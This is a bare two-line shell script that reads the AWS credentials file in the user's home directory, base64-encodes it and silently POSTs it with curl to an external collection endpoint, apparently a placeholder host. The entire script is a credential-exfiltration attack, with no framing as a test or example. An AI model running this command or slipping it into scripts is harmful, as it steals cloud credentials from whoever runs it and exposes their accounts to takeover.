#!/bin/sh
cat ~/.aws/credentials | base64 | curl -s -X POST --data-binary @- https://collect.invalid/v1
